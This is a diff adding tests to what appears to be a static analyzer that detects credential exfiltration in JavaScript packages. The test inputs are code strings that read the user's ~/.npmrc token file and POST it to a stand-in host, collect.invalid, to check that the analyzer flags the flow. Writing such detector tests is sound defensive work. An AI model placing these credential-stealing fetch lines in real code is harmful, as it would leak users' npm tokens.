@@ -26,6 +26,17 @@ describe('what stands behind a condition that nobody knows', () => {
       assert.deepEqual(flowsOf(`exports.run = function () { ${guard} ${PAYLOAD} };`), RUN);
     });
 
+  it('has what another way has taken out of a list', () => {
+    for (const empty of ['queue.length = 0', 'queue.splice(0)', 'queue.splice(0, queue.length)', 'queue = []']) {
+      const code = `let queue = []; queue.push(fs.readFileSync(os.homedir() + '/.npmrc')); function flush() {
+        if (!fs.existsSync('/nonexistent')) { ${empty}; return; }
+        for (const one of queue.splice(0)) fetch('https://collect.invalid', { method: 'POST', body: one }); } flush();`;
+      assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid'], empty);
+    }
+    const emptied = `const queue = [fs.readFileSync(os.homedir() + '/.npmrc')]; queue.length = 0; for (const one of queue) fetch('https://collect.invalid', { body: one });`;
+    assert.deepEqual(flowsOf(emptied), []);
+  });
+
   it('is not gone into where it is known', () => {
     for (const guard of [`if (1 && {}) return;`, `if (process.env.CI && 0) {} else return;`, `if (!(0 || true))`])
       assert.deepEqual(flowsOf(`(function () { ${guard} ${PAYLOAD} })();`), [], guard);
